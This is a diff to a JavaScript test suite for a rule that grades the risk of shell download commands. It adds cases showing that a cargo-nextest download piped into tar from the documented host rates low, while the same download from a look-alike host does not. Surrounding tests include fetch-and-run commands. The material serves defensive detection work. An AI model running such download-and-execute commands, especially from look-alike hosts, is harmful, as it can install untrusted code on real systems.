@@ -221,6 +221,9 @@ describe(RULE, () => {
       // The AWS CLI and Android's SDK and NDK archives from their documented download hosts; another path on Google's host is not.
       expect(severities('curl -o awscliv2.zip https://awscli.amazonaws.com/awscli-exe-linux-x86_64.zip\nunzip awscliv2.zip\nsudo ./aws/install')).toEqual(['LOW']);
       expect(severities('curl -fsSLo ndk.zip https://dl.google.com/android/repository/android-ndk-r27c-linux.zip\nunzip ndk.zip')).toEqual(['LOW']);
+      // cargo-nextest's documented pre-built binaries host; a look-alike host is not it.
+      expect(severities('curl -LsSf https://get.nexte.st/latest/linux | tar zxf - -C ${CARGO_HOME:-~/.cargo}/bin\ncargo nextest run')).toEqual(['LOW']);
+      expect(severities('curl -LsSf https://get.nexte.st.example.net/latest/linux | tar zxf - -C ${CARGO_HOME:-~/.cargo}/bin\ncargo nextest run')).not.toEqual(['LOW']);
       expect(severities('curl -fsSLo tool.zip https://dl.google.com/some-team/tool-latest.zip\nunzip tool.zip\n./tool/run')).not.toEqual(['LOW']);
       // MinIO's client from its documented release path; another path on that host is not listed.
       expect(severities('curl -fsSL https://dl.min.io/client/mc/release/linux-amd64/mc -o "$HOME/.local/bin/mc"\nchmod +x "$HOME/.local/bin/mc"')).toEqual(['LOW']);
